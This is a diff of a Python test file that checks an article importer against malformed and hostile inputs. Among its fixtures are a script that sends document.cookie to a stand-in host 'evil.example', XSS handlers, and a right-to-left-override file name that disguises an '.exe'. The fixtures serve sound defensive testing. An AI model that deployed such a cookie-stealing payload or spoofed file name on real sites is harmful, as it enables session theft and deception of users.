@@ -78,7 +78,8 @@ class Case:
     expect: tuple[Expect, ...]
 
 
-def one(name: str, data: bytes, status: str, reason: str | None = None, text: str | None = None) -> Case:
+def one(name: str, data: bytes, status: str, reason: str | None = None,
+        text: str | None = None) -> Case:
     """A one-file case; ``name`` may end in ``:2``, the row of a one-record CSV that is meant."""
     file_name = name.removesuffix(":2")
     return Case({file_name: data}, (Expect(name, status, reason, text),))
@@ -120,13 +121,24 @@ def record_line(**fields) -> str:
     return json.dumps({"text": ARTICLE, **fields})
 
 
-SCRIPT = "<script>document.title = 'owned'; fetch('https://evil.example/?c=' + document.cookie);</script>"
+SCRIPT = ("<script>document.title = 'owned'; "
+          "fetch('https://evil.example/?c=' + document.cookie);</script>")
+WINDOWS_TEXT = "The minister’s “security guarantees” cost €5 million — officials said. " * 4
+GERMAN_TEXT = "Grüße aus Köln, sagte der Bürgermeister am Dienstag."
+ARTICLE_JSON = ARTICLE.replace("\n", "\\n")  # ARTICLE inside a hand-written JSON string
+
+
+def dated(article_id: str, date, city: str) -> str:
+    text = f"An article about talks in {city}."
+    return json.dumps({"id": article_id, "date": date, "text": text})
+
 
 CASES = {
     # -- binary files ---------------------------------------------------------
     "png-named-txt": one("photo.txt", png_bytes(), "rejected", "binary"),
     "random-bytes": one("noise.txt", random_bytes(4096), "rejected", "binary"),
-    "gzip-named-txt": one("archive.txt", gzip.compress(ARTICLE.encode() * 50), "rejected", "binary"),
+    "gzip-named-txt": one("archive.txt", gzip.compress(ARTICLE.encode() * 50),
+                          "rejected", "binary"),
     "elf-named-html": one("program.html", b"\x7fELF\x02\x01\x01" + bytes(9) + random_bytes(3000),
                           "rejected", "binary"),
     "pdf-named-json": one("scan.json", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random_bytes(3000),
@@ -139,38 +151,42 @@ CASES = {
     "broken-utf8-sequence": one(
         "broken.txt", b"Ministers met. \xe2\x80" + UNICODE_ARTICLE.encode("utf-8"),
         "imported", "invalid UTF-8", "Ministers met. \ufffd" + UNICODE_ARTICLE),
-    "utf16-le-without-bom": one("le.txt", UNICODE_ARTICLE.encode("utf-16-le"), "imported", "utf_16",
-                                UNICODE_ARTICLE),
-    "utf16-be-without-bom": one("be.txt", UNICODE_ARTICLE.encode("utf-16-be"), "imported", "utf_16",
-                                UNICODE_ARTICLE),
-    "utf16-without-bom-csv": one("wide.csv:2", f"id,text\nw1,{ONE_LINE} Ça coûte.\n".encode("utf-16-le"),
-                                 "imported", "utf_16", f"{ONE_LINE} Ça coûte."),
+    "utf16-le-without-bom": one("le.txt", UNICODE_ARTICLE.encode("utf-16-le"),
+                                "imported", "utf_16", UNICODE_ARTICLE),
+    "utf16-be-without-bom": one("be.txt", UNICODE_ARTICLE.encode("utf-16-be"),
+                                "imported", "utf_16", UNICODE_ARTICLE),
+    "utf16-without-bom-csv": one(
+        "wide.csv:2", f"id,text\nw1,{ONE_LINE} Ça coûte.\n".encode("utf-16-le"),
+        "imported", "utf_16", f"{ONE_LINE} Ça coûte."),
     "utf16-with-bom": one("bom16.txt", codecs.BOM_UTF16_LE + UNICODE_ARTICLE.encode("utf-16-le"),
                           "imported", None, UNICODE_ARTICLE),
-    "utf32-with-bom": one("bom32.txt", UNICODE_ARTICLE.encode("utf-32"), "imported", None, UNICODE_ARTICLE),
-    "cp1252-english": one(
-        "windows.txt",
-        ("The minister’s “security guarantees” cost €5 million — officials said. " * 4).encode("cp1252"),
-        "imported", "cp1252",
-        "The minister’s “security guarantees” cost €5 million — officials said. " * 4),
+    "utf32-with-bom": one("bom32.txt", UNICODE_ARTICLE.encode("utf-32"),
+                          "imported", None, UNICODE_ARTICLE),
+    "cp1252-english": one("windows.txt", WINDOWS_TEXT.encode("cp1252"),
+                          "imported", "cp1252", WINDOWS_TEXT),
     "cp1252-french": one("francais.txt", ("Café naïve, façade, élève. " * 10).encode("cp1252"),
                          "imported", "cp1252", "Café naïve, façade, élève. " * 10),
-    "cp1252-json": one("legacy.json", json.dumps({"id": "legacy", "text": "Grüße aus Köln, sagte der "
-                       "Bürgermeister am Dienstag."}, ensure_ascii=False).encode("cp1252"),
-                       "imported", "cp1252", "Grüße aus Köln, sagte der Bürgermeister am Dienstag."),
-    "utf8-bom-txt": one("bom8.txt", codecs.BOM_UTF8 + ARTICLE.encode(), "imported", None, ARTICLE),
-    "crlf-and-cr": one("dos.txt", ARTICLE.replace("\n", "\r\n").encode(), "imported", None, ARTICLE),
+    "cp1252-json": one(
+        "legacy.json",
+        json.dumps({"id": "legacy", "text": GERMAN_TEXT}, ensure_ascii=False).encode("cp1252"),
+        "imported", "cp1252", GERMAN_TEXT),
+    "utf8-bom-txt": one("bom8.txt", codecs.BOM_UTF8 + ARTICLE.encode(),
+                        "imported", None, ARTICLE),
+    "crlf-and-cr": one("dos.txt", ARTICLE.replace("\n", "\r\n").encode(),
+                       "imported", None, ARTICLE),
     # -- NUL bytes ------------------------------------------------------------
-    "stray-nul-bytes": one("nul.txt", ARTICLE[:50].encode() + b"\x00" + ARTICLE[50:].encode() + b"\x00",
-                           "imported", "NUL", ARTICLE),
+    "stray-nul-bytes": one(
+        "nul.txt", ARTICLE[:50].encode() + b"\x00" + ARTICLE[50:].encode() + b"\x00",
+        "imported", "NUL", ARTICLE),
     "nul-in-jsonl-line": Case(
-        {"nul.jsonl": (record_line(id="ok") + "\n" + '{"id": "raw-nul", "text": "a\x00b"}\n').encode()},
+        {"nul.jsonl": (record_line(id="ok") + '\n{"id": "raw-nul", "text": "a\x00b"}\n').encode()},
         (Expect("nul.jsonl:1", "imported", None, ARTICLE),
          Expect("nul.jsonl:2", "rejected", "invalid JSON"))),
     # -- empty and whitespace-only --------------------------------------------
     "empty-txt": one("empty.txt", b"", "rejected", "empty"),
     "whitespace-txt": one("blank.txt", b" \t\n\r\n   \n", "rejected", "empty"),
-    "unicode-whitespace-txt": one("nbsp.txt", "\u00a0\u2003\u3000\n\u2028".encode(), "rejected", "whitespace"),
+    "unicode-whitespace-txt": one("nbsp.txt", "\u00a0\u2003\u3000\n\u2028".encode(),
+                                  "rejected", "whitespace"),
     "bom-only": one("bom.txt", codecs.BOM_UTF8, "rejected", "whitespace"),
     "empty-json": one("empty.json", b"", "rejected", "empty"),
     "empty-json-list": one("list.json", b"[]", "rejected", "empty"),
@@ -180,22 +196,27 @@ CASES = {
     "header-only-csv": one("header.csv", b"id,title,text\n", "rejected", "no rows"),
     "empty-html": one("empty.html", b"   ", "rejected", "empty"),
     # -- JSON -----------------------------------------------------------------
-    "deeply-nested-json": one("deep.json", b"[" * 100_000 + b"]" * 100_000, "rejected", "nested"),
+    "deeply-nested-json": one("deep.json", b"[" * 100_000 + b"]" * 100_000,
+                              "rejected", "nested"),
     "deeply-nested-field": one(
-        "deepfield.json", json.dumps({"text": ARTICLE, "meta": json.loads("[" * 80 + "]" * 80)}).encode(),
+        "deepfield.json",
+        ('{"text": "%s", "meta": %s}' % (ARTICLE_JSON, "[" * 80 + "]" * 80)).encode(),
         "rejected", "nested deeper"),
     "json-scalar": one("number.json", b"42", "rejected", "article object"),
     "json-trailing-garbage": one("garbage.json", (json.dumps({"text": ARTICLE}) + " }}").encode(),
                                  "rejected", "invalid JSON"),
-    "json-huge-integer": one("bigint.json", ('{"id": "big", "text": "%s", "views": %s}'
-                                              % (ARTICLE.replace("\n", "\\n"), "9" * 5000)).encode(),
-                             "imported", None, ARTICLE),
-    "json-lone-surrogate": one("surrogate.json", ('{"id": "emoji", "text": "Broken emoji \\ud83d here. %s"}'
-                                                   % ARTICLE.replace("\n", "\\n")).encode(),
-                               "imported", "surrogate", "Broken emoji \ufffd here. " + ARTICLE),
+    "json-huge-integer": one(
+        "bigint.json",
+        ('{"id": "big", "text": "%s", "views": %s}' % (ARTICLE_JSON, "9" * 5000)).encode(),
+        "imported", None, ARTICLE),
+    "json-lone-surrogate": one(
+        "surrogate.json",
+        ('{"id": "emoji", "text": "Broken emoji \\ud83d here. %s"}' % ARTICLE_JSON).encode(),
+        "imported", "surrogate", "Broken emoji \ufffd here. " + ARTICLE),
     "json-list-bad-elements": Case(
         {"mixed.json": json.dumps([{"id": "m1", "text": ARTICLE}, "just a string",
-                                   {"id": {"nested": 1}, "text": "x"}, {"id": "m4", "text": 7}]).encode()},
+                                   {"id": {"nested": 1}, "text": "x"},
+                                   {"id": "m4", "text": 7}]).encode()},
         (Expect("mixed.json[0]", "imported", None, ARTICLE),
          Expect("mixed.json[1]", "rejected", "expected an object"),
          Expect("mixed.json[2]", "rejected", "id must be"),
@@ -210,7 +231,7 @@ CASES = {
             "",
             json.dumps({"id": "f6", "title": "no text"}),
             json.dumps({"id": ["a", "list"], "text": "x"}),
-            json.dumps({"id": "f8", "text": "Another good line about the grain corridor and Odesa port."}),
+            json.dumps({"id": "f8", "text": "Another good line about the grain corridor."}),
             "not json at all",
         ]).encode()},
         (Expect("feed.jsonl:1", "imported", None, ARTICLE),
@@ -242,11 +263,14 @@ CASES = {
                                  "imported", None, ARTICLE),
     "csv-with-bom": one("excel.csv:2", codecs.BOM_UTF8 + b"id,text\nbom1," + ONE_LINE.encode(),
                         "imported", None, ONE_LINE),
-    "csv-semicolons": one("european.csv:2", "id;outlet;text\ns1;Le Soir;Les ministres se sont réunis.\n".encode(),
-                          "imported", None, "Les ministres se sont réunis."),
-    "csv-no-text-column": one("people.csv", b"name,age\nAda,36\n", "rejected", "no 'text' or 'body' column"),
+    "csv-semicolons": one(
+        "european.csv:2", "id;outlet;text\ns1;Le Soir;Les ministres se sont réunis.\n".encode(),
+        "imported", None, "Les ministres se sont réunis."),
+    "csv-no-text-column": one("people.csv", b"name,age\nAda,36\n",
+                              "rejected", "no 'text' or 'body' column"),
     "csv-unclosed-quote": Case(
-        {"quote.csv": b'id,text\nq1,First good row about talks.\nq2,"never closed\nq3,would be swallowed\n'},
+        {"quote.csv": b'id,text\nq1,First good row about talks.\n'
+                      b'q2,"never closed\nq3,would be swallowed\n'},
         (Expect("quote.csv:2", "imported", None, "First good row about talks."),
          Expect("quote.csv:3", "rejected", "never closed"))),
     "csv-stray-quote": Case(
@@ -258,38 +282,45 @@ CASES = {
     # -- HTML -----------------------------------------------------------------
     "broken-html": one("broken.html", b"<html><body><div><p>" + ARTICLE.encode()
                        + b"<p><b>unclosed <i>tags</div></span></table>", "imported"),
-    "script-only-html": one("script.html", html_page(SCRIPT * 5), "rejected", "no readable text"),
-    "style-and-comments-html": one("styled.html",
-                                   html_page("<style>body{color:red}</style><!-- " + ARTICLE + " -->"),
-                                   "rejected", "no readable text"),
-    "deeply-nested-html": one("nested.html", b"<div>" * 30_000 + ARTICLE.encode() + b"</div>" * 30_000,
+    "script-only-html": one("script.html", html_page(SCRIPT * 5),
+                            "rejected", "no readable text"),
+    "style-and-comments-html": one(
+        "styled.html", html_page("<style>body{color:red}</style><!-- " + ARTICLE + " -->"),
+        "rejected", "no readable text"),
+    "deeply-nested-html": one("nested.html",
+                              b"<div>" * 30_000 + ARTICLE.encode() + b"</div>" * 30_000,
                               "imported"),
     "html-with-script-and-handlers": one(
         "handlers.html",
         html_page(f"<article><h1>Sanctions</h1><p>{ARTICLE}</p>{SCRIPT}"
-                  "<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">more</a></article>"),
+                  '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">more</a></article>'),
         "imported"),
     # -- file names -----------------------------------------------------------
-    "unicode-file-name": one("café — naïve 記事 🗞️.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "unicode-file-name": one("café — naïve 記事 🗞️.txt", ARTICLE.encode(),
+                             "imported", None, ARTICLE),
     "nfd-file-name": one("cafe\u0301.txt", ARTICLE.encode(), "imported", None, ARTICLE),
-    "rtl-override-file-name": one("\u202etxt.exe\u200b.txt", ARTICLE.encode(), "imported", None, ARTICLE),
+    "rtl-override-file-name": one("\u202etxt.exe\u200b.txt", ARTICLE.encode(),
+                                  "imported", None, ARTICLE),
     "newline-in-file-name": one("two\nlines.txt", ARTICLE.encode(), "imported", None, ARTICLE),
-    "non-utf8-file-name": Case({b"caf\xe9-latin1.txt": ARTICLE.encode()},
-                               (Expect("caf\ufffd-latin1.txt", "imported", "not valid UTF-8", ARTICLE),)),
+    "non-utf8-file-name": Case(
+        {b"caf\xe9-latin1.txt": ARTICLE.encode()},
+        (Expect("caf\ufffd-latin1.txt", "imported", "not valid UTF-8", ARTICLE),)),
     "dots-in-file-name": one("report..final...txt", ARTICLE.encode(), "imported", None, ARTICLE),
     "dotdot-leading-file-name": one("..evil.txt", ARTICLE.encode(), "skipped", "hidden"),
-    "unsupported-extension": one("scan.pdf", b"%PDF-1.4 whatever", "rejected", "unsupported file type"),
+    "unsupported-extension": one("scan.pdf", b"%PDF-1.4 whatever",
+                                 "rejected", "unsupported file type"),
     # -- dates ----------------------------------------------------------------
     "dates-that-do-not-exist": Case(
         {"dates.jsonl": "\n".join([
             record_line(id="d0", date="0000-00-00"),
-            json.dumps({"id": "d1", "date": "2099-13-45", "text": "Second article about talks in Geneva."}),
-            json.dumps({"id": "d2", "date": "2022-02-30", "text": "Third article about talks in Vienna."}),
-            json.dumps({"id": "d3", "date": ["2022", 3], "text": "Fourth article about talks in Oslo."}),
-            json.dumps({"id": "d4", "date": "9" * 10_000, "text": "Fifth article about talks in Rome."}),
-            json.dumps({"id": "d5", "date": "2099-01-01", "text": "Sixth article about talks in Bern."}),
+            dated("d1", "2099-13-45", "Geneva"),
+            dated("d2", "2022-02-30", "Vienna"),
+            dated("d3", ["2022", 3], "Oslo"),
+            dated("d4", "9" * 10_000, "Rome"),
+            dated("d5", "2099-01-01", "Bern"),
         ]).encode()},
-        tuple(Expect(f"dates.jsonl:{line}", "imported", "not a real, past calendar date") for line in range(1, 7))),
+        tuple(Expect(f"dates.jsonl:{line}", "imported", "not a real, past calendar date")
+              for line in range(1, 7))),
     "html-meta-date-invalid": one(
         "dated.html", html_page(f"<article><p>{ARTICLE}</p></article>",
                                 '<meta property="article:published_time" content="2099-13-45">'),
@@ -300,7 +331,10 @@ CASES = {
 def write_inputs(folder: Path, files: dict) -> list[Path]:
     paths = []
     for name, data in files.items():
-        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + name)) if isinstance(name, bytes) else folder / name
+        if isinstance(name, bytes):  # a file name that is not UTF-8
+            path = Path(os.fsdecode(os.fsencode(folder) + b"/" + name))
+        else:
+            path = folder / name
         path.write_bytes(data)
         paths.append(path)
     return paths
@@ -414,7 +448,7 @@ def test_thousands_of_tiny_files_are_all_imported(tmp_path, fresh_store):
         folder = tmp_path / f"batch-{number % 30:02d}"
         folder.mkdir(exist_ok=True)
         files[folder / f"brief-{number:04d}.txt"] = (
-            f"Brief {number}: " + " ".join(generator.choice(words) for _ in range(12)) + ".").encode()
+            f"Brief {number}: " + " ".join(generator.choices(words, k=12)) + ".").encode()
     for path, data in files.items():
         path.write_bytes(data)
     write_inputs(tmp_path, good_inputs())
@@ -429,7 +463,8 @@ def test_same_id_with_different_text_is_a_conflict_never_an_overwrite(tmp_path, 
     first.mkdir()
     second.mkdir()
     (first / "a.txt").write_text(ARTICLE, encoding="utf-8")
-    (second / "a.txt").write_text(ARTICLE + "\n\nA correction was appended later.", encoding="utf-8")
+    corrected = ARTICLE + "\n\nA correction was appended later."
+    (second / "a.txt").write_text(corrected, encoding="utf-8")
     (second / "feed.jsonl").write_text("\n".join([
         json.dumps({"id": "b", "text": "The first text of b, about the grain corridor."}),
         json.dumps({"id": "b", "text": "A different text that claims the id b."}),
@@ -437,8 +472,8 @@ def test_same_id_with_different_text_is_a_conflict_never_an_overwrite(tmp_path, 
     ]), encoding="utf-8")
     ingest(fresh_store, [first])
     result = ingest(fresh_store, [second])
-    reasons = dict(zip(result.report["input"], result.report["reason"]))
-    statuses = dict(zip(result.report["input"], result.report["status"]))
+    reasons = dict(zip(result.report["input"], result.report["reason"], strict=True))
+    statuses = dict(zip(result.report["input"], result.report["status"], strict=True))
     assert statuses[str(second / "a.txt")] == "rejected"
     assert "id conflict: 'a'" in reasons[str(second / "a.txt")]
     assert statuses[f"{second / 'feed.jsonl'}:2"] == "rejected"
@@ -473,7 +508,8 @@ def test_upload_names_with_paths_keep_only_the_file_name(name, expected_id, tmp_
 
 
 def test_upload_with_no_name_is_named(fresh_store):
-    result = ingest(fresh_store, uploads=[Upload("", ARTICLE.encode()), Upload("ok.txt", GOOD_TXT.encode())])
+    uploads = [Upload("", ARTICLE.encode()), Upload("ok.txt", GOOD_TXT.encode())]
+    result = ingest(fresh_store, uploads=uploads)
     assert result.report["status"].tolist() == ["rejected", "imported"]
     assert "unsupported file type" in result.report["reason"].iloc[0]
 
@@ -492,7 +528,8 @@ def test_broken_links_pipes_and_link_loops_are_named_not_hung(tmp_path, fresh_st
 
 
 def test_a_broken_folder_manifest_is_named_and_the_folder_still_imported(tmp_path, fresh_store):
-    written = write_inputs(tmp_path, {**good_inputs(), "manifest.csv": b"article;source\ngood-article;X\n"})
+    wrong_columns = b"article;source\ngood-article;X\n"
+    written = write_inputs(tmp_path, {**good_inputs(), "manifest.csv": wrong_columns})
     result = ingest(fresh_store, [tmp_path])
     assert_batch_went_on(fresh_store, result.report, written)
     row = rows_ending(result.report, "manifest.csv").iloc[0]
